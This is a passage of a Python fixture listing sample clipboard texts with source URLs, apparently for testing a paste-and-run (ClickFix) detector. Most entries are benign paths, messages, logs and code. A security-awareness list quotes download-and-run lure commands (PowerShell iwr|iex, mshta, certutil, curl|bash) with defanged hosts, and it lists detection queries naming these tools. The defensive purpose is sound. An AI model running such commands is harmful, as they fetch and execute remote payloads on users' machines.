        "https://stackoverflow.com/questions/5767325/how-can-i-remove-a-specific-item-from-an-array",
        "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Array/splice",
    ),
    (
        "https://docs.python.org/3/",
        "https://docs.python.org/3/library/pathlib.html#pathlib.Path.glob",
    ),
    (
        "https://www.reddit.com/r/sysadmin/",
        "https://learn.microsoft.com/en-us/windows/release-health/status-windows-11-24h2",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "https://calendar.google.com/calendar/u/0/r/week/2026/12/7",
    ),
    ("https://www.bbc.com/news", "https://www.bbc.com/news/technology-67890123"),
    (
        "https://wiki.acme.internal/IT/Onboarding",
        "https://selfservice.acme.internal/password-reset",
    ),
    ("https://confluence.acme.io/display/ENG/Runbooks", "https://runbooks.acme.io/db/failover"),
    (
        "https://github.com/acme/infra/blob/main/README.md",
        "https://github.com/acme/infra/actions/workflows/deploy.yml",
    ),
    ("https://www.linkedin.com/feed/", "https://www.linkedin.com/jobs/view/3987612345/"),
    (
        "https://duckduckgo.com/?q=python+dataclass+default+factory",
        "https://docs.python.org/3/library/dataclasses.html#default-factory-functions",
    ),
    (None, "https://www.bahn.de/buchung/fahrplan/suche#sts=true&so=Hamburg&zo=Berlin"),
    (None, "https://www.sj.se/"),
    (None, "https://meet.google.com/abc-mnop-xyz"),
    (None, "https://drive.google.com/drive/folders/1Zx9Ab8Cd7Ef6Gh5Ij4Kl3Mn2Op1Qr0St"),
    (None, "https://www.dropbox.com/scl/fi/k2j3h4g5f6/Q4-board-deck.pdf?rlkey=a1b2c3d4&dl=0"),
]

RUN_BOX: list[tuple[str | None, str]] = [
    (None, "C:\\Program Files\\Notepad++\\notepad++.exe"),
    (None, "%ProgramFiles%\\KeePassXC\\KeePassXC.exe"),
    (None, "\\\\fs02.corp.local\\Install\\Drivers\\HP-LaserJet-M404"),
    (None, "https://intranet.acme.local/kantine/veckomeny"),
    (None, "%userprofile%\\OneDrive - Acme AB\\Shared Budgets"),
    (None, "C:\\Users\\anna\\Desktop\\Q4 Offer - Lindqvist.docx"),
    (None, "%temp%\\Zoom_install_logs"),
    (None, "%appdata%\\Microsoft\\Teams"),
    (None, "D:\\Tools\\SysinternalsSuite\\procexp64.exe"),
    (None, "\\\\nas01.home.arpa\\photos\\2026\\Lofoten"),
    (None, "C:\\Users\\anna\\Desktop\\rds-gw.rdp"),
    (None, "https://timereport.acme.local/week/49"),
    (None, "\\\\fs01\\scans"),
    (None, "https://servicedesk.acme.local/portal/3/create/41"),
    (None, "ms-settings:display-advancedgraphics"),
    (None, "https://helpdesk.acme.internal"),
    (
        "https://www.howtogeek.com/open-computer-management-windows/",
        "C:\\ProgramData\\Veeam\\Endpoint\\Logs",
    ),
    (
        "https://www.howtogeek.com/how-to-open-the-system-configuration-tool/",
        "%LOCALAPPDATA%\\Programs\\Microsoft VS Code\\Code.exe",
    ),
    (
        "https://www.tenforums.com/tutorials/76233-open-disk-cleanup-windows-10-a.html",
        "\\\\scan-mfp-3rdfloor.corp.local\\scans\\anna",
    ),
    (
        "https://support.microsoft.com/en-us/windows/clear-the-cache-in-windows",
        "%localappdata%\\Microsoft\\Teams\\Cache",
    ),
    (
        "https://www.elevenforum.com/t/open-startup-folder-in-windows-11.1190/",
        "D:\\Games\\GOG Galaxy\\Games\\Disco Elysium",
    ),
    (
        "https://support.microsoft.com/en-us/windows/windows-microphone-privacy",
        "ms-settings:easeofaccess-colorfilter",
    ),
    (
        "https://www.windowscentral.com/how-open-resource-monitor-windows-10",
        "https://wiki.acme.internal/display/IT/New+laptop+checklist",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/performance/",
        "E:\\Photos\\Import 2026-12-06",
    ),
    (
        "https://www.tenforums.com/tutorials/",
        "%ProgramFiles%\\Mozilla Thunderbird\\thunderbird.exe",
    ),
    (
        "https://support.microsoft.com/en-us/windows/change-proxy-settings",
        "ms-settings:network-vpn",
    ),
    ("https://www.howtogeek.com/open-local-users-and-groups/", "tpm.msc"),
    (
        "https://support.microsoft.com/en-us/office/locate-the-pst-file",
        "%appdata%\\Microsoft\\Signatures\\Acme 2026 (anna@acme.se).htm",
    ),
    ("https://wiki.acme.internal/IT/Printers", "\\\\print01.corp.local"),
    ("https://support.microsoft.com/en-us/windows/open-directx-diagnostic-tool", "msdt"),
]

EXPLORER: list[tuple[str | None, str]] = [
    (None, "C:\\Program Files\\Microsoft Office\\root\\Office16"),
    (None, "C:\\Users\\anna\\Downloads"),
    (None, "%userprofile%\\Documents\\Invoices\\2026"),
    (None, "\\\\nas01\\projects\\Webshop\\Design"),
    (None, "D:\\Backups\\Lightroom\\Catalog 2026"),
    (None, "C:\\Users\\anna\\Music\\Podcasts"),
    (None, "shell:NetHood"),
    (None, "%programdata%\\Autodesk\\Logs"),
    (None, "C:\\Windows\\SoftwareDistribution\\ReportingEvents.log"),
    (None, "\\\\fs01.corp.local\\HR$\\Forms"),
    (None, "This PC\\Pictures\\Camera Roll"),
    (None, "C:\\ProgramData\\Docker\\config"),
    (None, "ftp://ftp.acme-partner.example.com/incoming"),
    ("https://wiki.acme.internal/IT/Shares", "\\\\fs01.corp.local\\Marketing\\Brand Assets"),
    ("https://wiki.acme.internal/IT/Shares", "S:\\Finance\\Month-End\\2026-11"),
    (
        "https://support.microsoft.com/en-us/office/where-are-my-templates",
        "%appdata%\\Microsoft\\Word\\STARTUP",
    ),
    ("https://www.elevenforum.com/t/open-fonts-folder.2000/", "C:\\Windows\\Web\\Wallpaper"),
    (
        "https://learn.microsoft.com/en-us/windows/client-management/",
        "C:\\inetpub\\wwwroot\\intranet\\App_Data",
    ),
    ("https://helpx.adobe.com/acrobat/kb/", "%appdata%\\Adobe\\Acrobat\\DC"),
    (
        "https://code.visualstudio.com/docs/getstarted/settings",
        "%APPDATA%\\JetBrains\\PyCharm2024.3\\options",
    ),
    (
        "https://support.mozilla.org/en-US/kb/profiles-where-firefox-stores-user-data",
        "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Bookmarks",
    ),
    ("https://learn.microsoft.com/en-us/windows/wsl/filesystems", "\\\\wsl$\\Ubuntu\\home\\anna"),
    ("https://www.elevenforum.com/t/open-recycle-bin.3000/", "shell:MyComputerFolder"),
    (
        "https://learn.microsoft.com/en-us/sharepoint/",
        "https://acme.sharepoint.com/sites/Finance/Shared%20Documents",
    ),
    (
        "https://support.microsoft.com/en-us/windows/",
        "\\\\fs01.corp.local\\Projects\\2026-047 Harbour Office\\Drawings",
    ),
]

SECURITY_WRITING: list[tuple[str | None, str]] = [
    (
        "https://wiki.acme.internal/Security/Awareness",
        'Heads-up from the security team: fake "verify you are human" pages ask you to press Win+R, paste and press Enter. No real CAPTCHA ever asks you to run anything. If you see one, close the tab and tell us in #security.',
    ),
    (
        "https://wiki.acme.internal/Security/Awareness",
        "ClickFix in one sentence: the page copies a command to your clipboard (often powershell -w hidden ... | iex or mshta https://...) and talks you into pasting it into the Run box yourself.",
    ),
    (
        "https://www.acme-news.example/blog/clickfix-explained",
        'What the lure looks like: "Press Windows + R, then Ctrl + V, then Enter to complete verification." What it does: runs whatever the page put on your clipboard, with your rights.',
    ),
    (
        None,
        "Reminder for the helpdesk: if a user says a website asked them to paste something into Win+R, isolate the laptop, reset their passwords and open a P2 incident.",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-overview",
        'DeviceRegistryEvents\n| where RegistryKey has @"\\CurrentVersion\\Explorer\\RunMRU"\n| where RegistryValueData has_any ("powershell", "mshta", "curl", "msiexec")\n| project Timestamp, DeviceName, RegistryValueData',
    ),
    (
        "https://learn.microsoft.com/en-us/defender-xdr/advanced-hunting-deviceprocessevents-table",
        'DeviceProcessEvents\n| where InitiatingProcessFileName =~ "explorer.exe"\n| where FileName in~ ("powershell.exe", "mshta.exe", "cmd.exe")\n| where ProcessCommandLine has_any ("iex", "iwr", "http")\n| summarize count() by DeviceName, bin(Timestamp, 1h)',
    ),
    (
        "https://github.com/SigmaHQ/sigma/tree/master/rules/windows/registry",
        "title: Suspicious RunMRU Entry\nlogsource:\n  product: windows\n  category: registry_set\ndetection:\n  selection:\n    TargetObject|contains: '\\Explorer\\RunMRU\\'\n    Details|contains:\n      - 'mshta'\n      - 'powershell'\n  condition: selection\nlevel: high",
    ),
    (
        "https://docs.splunk.com/Documentation/Splunk/latest/SearchReference/Search",
        'index=wineventlog EventCode=4688 New_Process_Name="*\\\\mshta.exe" | stats count by host, Process_Command_Line',
    ),
    (
        "https://www.elastic.co/guide/en/security/current/",
        'process where host.os.type == "windows" and process.name : "mshta.exe" and process.parent.name : "explorer.exe" and process.args : "http*"',
    ),
    (
        "https://attack.mitre.org/techniques/T1204/004/",
        "T1204.004 Malicious Copy and Paste: adversaries may rely on a user copying and pasting code into a terminal or the Run dialog, often after a fake error or CAPTCHA prompt.",
    ),
    (
        "https://attack.mitre.org/techniques/T1218/005/",
        "Mshta (T1218.005): adversaries may abuse mshta.exe to proxy execution of malicious .hta files and JavaScript or VBScript through a trusted Windows utility.",
    ),
    (
        "https://lolbas-project.github.io/lolbas/Binaries/Certutil/",
        "Certutil can download a file: certutil.exe -urlcache -split -f <URL> <output file>. Defenders should alert on certutil with -urlcache outside of PKI admin hosts.",
    ),
    (
        "https://www.acme-sec.example/reports/2026-q4",
        "In Q4 we saw 41 ClickFix attempts; 35 were blocked by the paste guard, 6 reached the Run dialog and were stopped by ASR rules. None succeeded.",
    ),
    (
        "https://www.acme-sec.example/reports/2026-q4",
        "IOC table (defanged): hxxps://verify-captcha[.]example/check.hta, hxxp://198.51.100[.]23/s.ps1, finger user@203.0.113[.]5",
    ),
    (
        None,
        "Can someone check INC-4471? User pasted something from a 'Cloudflare check' into Run. EDR shows mshta.exe spawning powershell at 09:14. Host is isolated.",
    ),
    (
        None,
        'Post-incident note: the command the page copied was powershell -w h -c "iwr hxxps://cdn-check[.]example/a | iex". Blocked by the paste warning; user reported it. Good catch, Maria!',
    ),
    (
        "https://www.ncsc.gov.uk/guidance/phishing",
        "Fake tech support pop-ups tell you your computer is infected and give a phone number. Microsoft will never ask you to call a number shown in a browser warning.",
    ),
    (
        "https://support.microsoft.com/en-us/windows/protect-yourself-from-tech-support-scams",
        "Tech support scams use scare tactics to trick you into paying for unnecessary technical support services. Don't call the number in a pop-up; close the browser with Task Manager if you must.",
    ),
    (
        "https://www.cisa.gov/news-events/news/avoiding-social-engineering-and-phishing-attacks",
        "Device code phishing: attackers send a code and ask you to enter it at microsoft.com/devicelogin. Only enter a device code if you started the sign-in on your own device a moment ago.",
    ),
    (
        "https://pushsecurity.com/blog/",
        "ConsentFix abuses the OAuth authorization code flow: the victim is asked to copy the localhost URL from the address bar, which contains the code, and paste it into the attacker's page.",
    ),
    (
        "https://www.acme-sec.example/blog/filefix",
        "FileFix moves the lure from the Run box to File Explorer's address bar: the pasted text is a command followed by many spaces and a fake file path, so the user only sees the path.",
    ),
    (
        "https://www.acme-sec.example/blog/macos-stealers",
        'On macOS the lure says to open Terminal and paste a line like /bin/bash -c "$(curl -fsSL <url>)" - the same shape as a real Homebrew install, which is why it works.',
    ),
    (
        "https://redcanary.com/threat-detection-report/",
        "Paste-and-run lures surged in 2025; the most common child of explorer.exe in those cases was powershell.exe with a hidden window and a download cradle.",
    ),
    (
        None,
        "Detection idea: alert when explorer.exe spawns powershell/mshta/msiexec within 5s of a clipboard change that came from a browser. Cheap and catches most ClickFix.",
    ),
    (
        "https://github.com/acme/detections/blob/main/README.md",
        'rule ClickFix_RunMRU {\n  strings:\n    $a = "RunMRU" wide\n    $b = "mshta" nocase\n    $c = "iex" nocase\n  condition:\n    $a and ($b or $c)\n}',
    ),
    (
        "https://www.acme-sec.example/training/module-3",
        "Quiz: a website shows 'Press Win+R and paste the code to verify'. What do you do? (a) Paste it (b) Close the page and report it (c) Ask a colleague to paste it. Answer: (b).",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/attack-surface-reduction-rules-reference",
        "Block execution of potentially obfuscated scripts (GUID 5beb7efe-fd9a-4556-801d-275e5ffc04cc) stops many pasted PowerShell one-liners before they run.",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/application-security/application-control/",
        "To stop users from opening the Run dialog, set the policy User Configuration > Administrative Templates > Start Menu and Taskbar > Remove Run menu from Start Menu.",
    ),
    (
        None,
        "FYI the Discord 'verification bot' scam is back: it asks you to open DevTools (Ctrl+Shift+I) and paste a script that steals your token. Never paste anything into the console for a server.",
    ),
    (
        "https://www.acme-sec.example/reports/2026-q4",
        "Callback phishing pattern: a fake invoice for an antivirus renewal ($399-$499) with a phone number to 'cancel'. The call ends with remote access software being installed.",
    ),
    (
        "https://www.bleepingcomputer.com/news/security/",
        "The attackers used the finger.exe utility to fetch the next stage from a remote server, a technique rarely seen before 2025.",
    ),
    (
        "https://www.huntress.com/blog/",
        "Analysts observed nslookup being used to pull a command out of a DNS TXT record, then piping it to cmd - a staging trick that needs no HTTP at all.",
    ),
    (
        None,
        "Sigma PR review: the RunMRU rule also fires on 'cmd' typed alone. Maybe require a URL or an encoded blob in Details before alerting?",
    ),
    (
        "https://wiki.acme.internal/Security/Playbooks/ClickFix",
        "Playbook step 4: pull RunMRU and TypedPaths from the user's NTUSER.DAT; a ClickFix paste leaves the full command there, including the fake verification comment at the end.",
    ),
    (
        "https://www.acme-sec.example/blog/tech-support-scams",
        "The scam page locks the browser in full screen, plays an audio warning and shows a number like +1 (8xx) 555-01xx. Press Esc, or hold it, to leave full screen.",
    ),
]

SUPPORT_MAIL: list[tuple[str | None, str]] = [
    (
        None,
        "Hi Anna, your laptop replacement is ready for pickup at the IT desk (3rd floor) from Tuesday. If you can't make it, call the service desk on +44 20 7946 0321 and we'll arrange a courier. Ticket: REQ-20931. Thanks, IT Service Desk",
    ),
    (
        None,
        "Hello, this is a reminder of your dental appointment on Thursday 11 December at 09:30 with Dr. Patel. To reschedule please call 0161 496 0123. Kind regards, Brightsmile Dental",
    ),
    (
        None,
        "Your Contoso support case 2412070040012345 has been updated. An engineer will call you back within 4 business hours at the number you gave us. You can also reach us at +1 (425) 555-0100, option 2.",
    ),
    (
        "https://outlook.office.com/mail/inbox",
        "Dear customer, your broadband installation is booked for 15 December between 8am and 1pm. The engineer will call 30 minutes before arrival. Questions? Call 0800 046 0420 (free). Your order reference: BB-7781245.",
    ),
    (
        None,
        "Hallo Herr Krüger, Ihr Termin zur Kfz-Inspektion ist am Montag, 15.12., um 8:00 Uhr. Bitte bringen Sie das Serviceheft mit. Bei Fragen erreichen Sie uns unter 030 12345678. Mit freundlichen Grüßen, Autohaus Lehmann",
    ),
    (
        None,
        "Guten Tag, Ihr Ticket #48812 (VPN-Zugang) wurde gelöst. Falls das Problem wieder auftritt, antworten Sie auf diese Mail oder rufen Sie die IT-Hotline unter Durchwahl -4400 an (extern +49 89 2180 4400).",
    ),
    (
        None,
        "Bonjour Mme Laurent, votre colis sera livré demain entre 10h et 13h. En cas d'absence, il sera déposé au point relais le plus proche. Service client : 09 69 32 10 10 (appel non surtaxé).",
    ),
    (
        None,
        "Bonjour, suite à votre demande, un technicien passera le mardi 16 décembre pour la mise en service de la fibre. Pour modifier le rendez-vous, appelez le 01 23 45 67 89. Cordialement, le service client.",
    ),
    (
        None,
        "Hola Lucía, te confirmamos la cita en el taller el jueves 18 a las 9:00 para la revisión de los 30.000 km. Si necesitas cambiarla, llámanos al 915 123 456. Un saludo, Talleres Ortega",
    ),
    (
        None,
        "Estimado cliente: su pedido n.º 40518 ha salido de nuestro almacén y llegará en 2-3 días laborables. Para cualquier consulta, nuestro teléfono de atención es el 900 123 987 (lunes a viernes, 9-18 h).",
    ),
    (
        None,
        "Gentile Sig. Bianchi, le ricordiamo l'appuntamento per il rinnovo della carta d'identità il 12 dicembre alle 10:15, sportello 3. Per informazioni: 06 6710 2345. Comune di Roma - Municipio I",
    ),
    (
        None,
        "Olá Sr. Costa, a sua consulta de rotina está marcada para dia 9 de dezembro às 14h30. Se não puder comparecer, ligue para 21 123 4567 com 24 horas de antecedência. Clínica São Miguel",
    ),
    (
        None,
        "Prezado cliente, sua solicitação de portabilidade foi concluída. O novo chip já está ativo. Dúvidas: Central de Atendimento 0800 123 4567, de segunda a sábado, das 8h às 20h.",
    ),
    (
        None,
        "Beste meneer De Vries, uw afspraak bij de huisartsenpraktijk is verzet naar woensdag 10 december om 11:20. Kunt u niet? Bel dan 020 123 4567 tussen 8:00 en 10:00. Met vriendelijke groet, Praktijk Oost",
    ),
    (
        None,
        "Dzień dobry, przypominamy o wizycie serwisanta w dniu 11.12 w godz. 8-12 (wymiana licznika). W razie pytań prosimy o kontakt pod numerem 22 123 45 67. Pozdrawiamy, Biuro Obsługi Klienta",
    ),
    (
        None,
        "Merhaba Ayşe Hanım, 12 Aralık Cuma günü saat 10:00'daki randevunuzu hatırlatırız. Değişiklik için 0212 123 45 67 numaralı telefondan bize ulaşabilirsiniz. İyi günler dileriz.",
    ),
    (
        None,
        "Здравствуйте, Иван! Ваш заказ № 558120 готов к выдаче в пункте самовывоза на ул. Ленина, 15. Срок хранения — 7 дней. Телефон для справок: 8 (800) 123-45-67.",
    ),
    (
        None,
        "山田様\nいつもお世話になっております。ご依頼いただいたパソコンの修理が完了しました。店頭でのお受け取りは平日10時〜19時です。ご不明な点は 03-1234-5678 までお問い合わせください。",
    ),
    (
        None,
        "您好，您预约的宽带上门安装时间为12月9日下午2点至5点，安装师傅会提前电话联系您。如需改约，请拨打客服热线 10086 或回复本短信。",
    ),
    (
        None,
        "مرحباً أحمد، نذكّرك بموعد صيانة المكيّف يوم الأحد القادم الساعة العاشرة صباحاً. لتغيير الموعد يرجى الاتصال على 04 123 4567. مع التحية، فريق خدمة العملاء",
    ),
    (
        None,
        "Hej Erik! Din tid för däckbyte är bokad till lördag 13 december kl. 10.30. Om du behöver boka om, ring oss på 08-123 456 78. Vänliga hälsningar, Däckcenter Solna",
    ),
    (
        None,
        "안녕하세요 김민수 고객님, 요청하신 인터넷 설치 일정은 12월 10일 오후 2시입니다. 일정 변경은 고객센터 1588-1234로 연락 주세요. 감사합니다.",
    ),
    (
        None,
        "Hi team, the office Wi-Fi will be down on Saturday 09:00-11:00 for the switch upgrade. On-call network engineer: Jonas, mobile +46 70 123 45 67. Nothing to do on your side.",
    ),
    (
        None,
        "Your Amazon order #114-3948213-7712045 has shipped and will arrive Thursday. Track your package in the app. Need help? Visit amazon.com/help - we never ask for payment by phone.",
    ),
    (
        None,
        "Reminder: our bank branch at Market Street will close at 1pm on 24 December. For card issues call the 24h line on the back of your card. Telephone banking: 0345 300 0000.",
    ),
    (
        None,
        "Hello Mr. Osei, your flight BA 2471 on 19 Dec has a new departure time of 14:45. No action is needed. To change your booking call +44 344 493 0787 or use Manage My Booking.",
    ),
    (
        None,
        "Hi, the plumber will come Wednesday morning to fix the boiler pressure. If nobody's home he'll call you on 07700 900461 first. Cheers, Lakeside Property Management",
    ),
    (
        None,
        "Dear parents, the school trip to the science museum is on Friday. Buses leave at 8:15. In an emergency on the day, call the trip lead on 07700 900982. Thank you, Year 5 team",
    ),
    (
        None,
        "Caro cliente, il tecnico per l'installazione della caldaia arriverà lunedì tra le 8 e le 10. Per urgenze chiamare il numero verde 800 123 456. Cordiali saluti, Termoservice",
    ),
    (
        None,
        "IT-Hinweis: Am Wochenende wird der Mailserver aktualisiert. Outlook ist Samstag 20-22 Uhr nicht erreichbar. Bereitschaft: Tel. 0711 987 654 0. Sie müssen nichts tun.",
    ),
]

OAUTH_DOCS: list[tuple[str | None, str]] = [
    (
        "https://www.oauth.com/oauth2-servers/authorization/the-authorization-request/",
        "https://authorization-server.com/authorize?response_type=code&client_id=s6BhdRkqt3&redirect_uri=https%3A%2F%2Fclient.example.org%2Fcb&scope=photo+offline_access&state=xcoiv98y2kd22vusuye3kch",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8252#section-7.3",
        "Loopback Interface Redirection: native apps that are able to open a port on the loopback network interface without needing special permissions can use the loopback interface to receive the OAuth redirect, e.g. http://127.0.0.1:{port}/{path}.",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/reply-url",
        "Redirect URI (reply URL) best practices: use https for web apps; http://localhost is allowed for development, and the port component is ignored for loopback redirect URIs.",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "redirect_uri=http://127.0.0.1:port&response_type=code&scope=email%20profile&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc6749#section-4.1.3",
        "POST /token HTTP/1.1\nHost: server.example.com\nAuthorization: Basic czZCaGRSa3F0MzpnWDFmQmF0M2JW\nContent-Type: application/x-www-form-urlencoded\n\ngrant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&redirect_uri=https%3A%2F%2Fclient%2Eexample%2Ecom%2Fcb",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8628",
        "Device Authorization Grant: the device displays a user_code and a verification_uri; the user visits the URI on another device and enters the code to approve access.",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        "az login --tenant contoso.onmicrosoft.com --allow-no-subscriptions",
    ),
    ("https://cli.github.com/manual/gh_auth_login", "gh auth status --show-token=false"),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/authorization-code-flow-with-pkce",
        "const verifier = base64URLEncode(crypto.randomBytes(32));\nconst challenge = base64URLEncode(sha256(verifier));",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "GET https://github.com/login/oauth/authorize?client_id=Iv1.8a61f9b3a7aba766&redirect_uri=https://app.acme.io/auth/github/callback&scope=read:user&state=3f9c",
    ),
    (
        "https://www.keycloak.org/docs/latest/server_admin/",
        "Valid redirect URIs: https://app.acme.io/* and http://localhost:3000/* (development only). Web origins: +",
    ),
    (
        "https://next-auth.js.org/configuration/providers/oauth",
        "GitHubProvider({\n  clientId: process.env.GITHUB_ID,\n  clientSecret: process.env.GITHUB_SECRET,\n})",
    ),
]

CHAT: list[tuple[str | None, str]] = [
    (
        None,
        "can you review my PR when you have a minute? it's the one fixing the date picker on Safari",
    ),
    (None, "lunch at 12:30? the Thai place or the new ramen bar"),
    (None, "Deploy to staging done ✅ smoke tests green, prod at 15:00 unless someone shouts"),
    (
        None,
        "I'm out sick today, will check Slack in the afternoon. Standup notes in the doc please",
    ),
    (None, "did anyone else get logged out of Jira just now?"),
    (None, "Reminder: retro moved to Thursday 14:00, room Oslo or the usual Meet link"),
    (
        None,
        "heads up, the CI runners are slow today because of the cache migration, expect ~20 min builds",
    ),
    (None, "thx! that fixed it, it was the trailing slash in the base URL 🙈"),
    (None, "Can you send me the Figma link for the new onboarding screens?"),
    (None, "Hey! Are we still on for Saturday? I can bring the board games 🎲"),
    (None, "Who's on call this weekend? PagerDuty says Jonas but he's on vacation"),
    (None, "+1, let's ship it. We can do the refactor in a follow-up"),
    (None, "Quick q: do we pin Node 22 in .nvmrc or only in CI?"),
    (None, "Happy birthday Sara!! 🎉🎂 cake in the kitchen at 3"),
    (None, "the meeting link changed, use this one: https://meet.google.com/xyz-abcd-efg"),
    (
        None,
        "Ich bin heute im Homeoffice, erreichbar über Teams. Das Review mache ich nach dem Mittag.",
    ),
    (None, "Salut ! Tu peux me renvoyer le compte rendu de la réunion d'hier ? Merci 🙏"),
    (None, "¿Alguien sabe si el parking de la oficina está abierto el sábado?"),
    (None, "Ci vediamo alle 18 davanti al cinema, ho già preso i biglietti"),
    (None, "Oi! Você consegue revisar o contrato até sexta? O cliente quer assinar na segunda."),
    (None, "Zullen we de sprintplanning een uur opschuiven? Ik zit tot 10:00 bij de tandarts."),
    (None, "Cześć, czy ktoś ma ładowarkę USB-C do pożyczenia? Moja została w domu."),
    (None, "今日の定例は15分遅れで始めます。資料は共有フォルダにあります。"),
    (None, "明天上午十点开会，记得带上季度报告的打印版。"),
    (None, "Привет! Скинь, пожалуйста, ссылку на таблицу с отпусками."),
    (None, "Toplantı notlarını paylaştım, göz atabilir misin?"),
    (
        None,
        "ok I restarted the pod, latency back to normal. root cause probably the connection pool limit, will write it up",
    ),
    (
        None,
        "fyi the password manager migration is next week, you'll get an email with the steps. don't reuse old passwords pls",
    ),
    (None, "is the Wi-Fi password still the one on the whiteboard?"),
    (None, "sorry, wrong channel 🙃"),
]

LOGS: list[tuple[str | None, str]] = [
    (
        None,
        "2026-12-07T09:14:02.331Z INFO  api.request method=GET path=/api/v1/orders status=200 duration_ms=41 user=4411",
    ),
    (
        None,
        "2026-12-07 09:15:44,120 ERROR [worker-3] payments.stripe: Webhook signature verification failed for event evt_1QXa2b (retry 2/5)",
    ),
    (
        None,
        "Dec  7 09:16:01 web01 sshd[22841]: Accepted publickey for deploy from 10.0.4.17 port 51544 ssh2: ED25519 SHA256:Qx8f1n2kLzP0aVb9cW3dE4fG5hI6jK7lM8nO9pQ0rS",
    ),
    (
        None,
        "Dec  7 09:16:12 web01 kernel: [1203441.112] Out of memory: Killed process 31122 (node) total-vm:4823412kB, anon-rss:2101344kB",
    ),
    (
        None,
        '10.0.3.22 - - [07/Dec/2026:09:17:05 +0000] "POST /api/login HTTP/1.1" 401 58 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
    ),
    (
        None,
        'Traceback (most recent call last):\n  File "/srv/app/jobs/export.py", line 88, in run\n    rows = fetch_rows(cursor, since)\n  File "/srv/app/jobs/export.py", line 41, in fetch_rows\n    cursor.execute(SQL, (since,))\npsycopg.errors.QueryCanceled: canceling statement due to statement timeout',
    ),
    (
        None,
        'java.lang.NullPointerException: Cannot invoke "com.acme.billing.Invoice.getTotal()" because "invoice" is null\n\tat com.acme.billing.ReportService.sum(ReportService.java:112)\n\tat com.acme.billing.ReportService.monthly(ReportService.java:64)',
    ),
    (
        None,
        'npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! Found: react@19.0.0\nnpm ERR! Could not resolve dependency: peer react@"^18.0.0" from react-datepicker@6.9.0',
    ),
    (
        None,
        "error[E0382]: borrow of moved value: `config`\n  --> src/main.rs:42:20\n   |\n38 |     let app = App::new(config);\n   |                        ------ value moved here",
    ),
    (
        None,
        "Log Name: Application\nSource: Application Error\nEvent ID: 1000\nFaulting application name: OUTLOOK.EXE, version: 16.0.18129.20158\nFaulting module name: mso20win32client.dll",
    ),
    (
        None,
        "[2026-12-07 09:20:11] production.WARNING: Slow query (2310 ms): select * from `order_items` where `order_id` in (...)",
    ),
    (
        None,
        "E1207 09:21:33.441122       1 reflector.go:147] k8s.io/client-go/informers/factory.go:159: Failed to watch *v1.Pod: context deadline exceeded",
    ),
    (
        None,
        "  Warning  BackOff    3m (x41 over 12m)  kubelet  Back-off restarting failed container api in pod api-7d9f8b6c4-x2lqz_production",
    ),
    (
        None,
        "#12 [build 5/7] RUN npm ci --omit=dev\n#12 12.44 added 612 packages in 11s\n#12 DONE 13.1s",
    ),
    (
        None,
        "FAILED tests/test_invoice.py::test_rounding - AssertionError: assert Decimal('10.01') == Decimal('10.00')\n=================== 1 failed, 212 passed in 8.31s ===================",
    ),
    (
        None,
        "2026/12/07 09:23:50 [error] 1123#1123: *88412 upstream timed out (110: Connection timed out) while reading response header from upstream, client: 10.0.3.9, server: shop.example.com",
    ),
    (
        None,
        "Dec 07 09:24:02 db01 postgres[1842]: LOG:  checkpoint complete: wrote 12941 buffers (7.9%); 0 WAL file(s) added, 0 removed, 3 recycled",
    ),
    (
        None,
        "WARN  [2026-12-07 09:25:13,002] c.a.s.CacheWarmup - cache warm-up took 18.2s (threshold 10s)",
    ),
    (
        None,
        "The process cannot access the file 'C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex261207.log' because it is being used by another process.",
    ),
    (
        None,
        "Windows Update: Installation Failure: Windows failed to install the following update with error 0x800f0922: 2026-12 Cumulative Update for Windows 11 Version 24H2 (KB5048667).",
    ),
    (
        None,
        "fatal: unable to access 'https://github.com/acme/webshop.git/': Could not resolve host: github.com",
    ),
    (None, "ssh: connect to host 10.0.4.20 port 22: Connection refused"),
    (
        None,
        "Error response from daemon: driver failed programming external connectivity on endpoint web (3f1a...): Bind for 0.0.0.0:8080 failed: port is already allocated",
    ),
    (
        None,
        'Exception in thread "main" java.net.ConnectException: Connection refused (Connection refused)\n\tat java.base/sun.nio.ch.Net.connect0(Native Method)',
    ),
    (
        None,
        "AADSTS50076: Due to a configuration change made by your administrator, or because you moved to a new location, you must use multi-factor authentication to access '00000003-0000-0000-c000-000000000000'.",
    ),
]

CODE: list[tuple[str | None, str]] = [
    (
        "https://docs.python.org/3/library/pathlib.html",
        "from pathlib import Path\n\nfor p in sorted(Path('reports').glob('*.csv')):\n    print(p.name, p.stat().st_size)",
    ),
    (
        "https://docs.python.org/3/library/subprocess.html",
        "import subprocess\n\nout = subprocess.check_output(['git', 'describe', '--tags', '--dirty'], text=True)\nVERSION = out.strip().lstrip('v')",
    ),
    (
        "https://docs.python.org/3/library/argparse.html",
        "parser = argparse.ArgumentParser(description='Export orders')\nparser.add_argument('--since', type=date.fromisoformat, required=True)\nargs = parser.parse_args()",
    ),
    (
        "https://docs.python.org/3/library/dataclasses.html",
        "@dataclass(frozen=True)\nclass Invoice:\n    number: str\n    total: Decimal\n    lines: list[Line] = field(default_factory=list)",
    ),
    (
        "https://docs.python-requests.org/en/latest/user/quickstart/",
        "r = requests.get('https://api.github.com/events', timeout=10)\nr.raise_for_status()\nprint(r.json()[0]['type'])",
    ),
    (
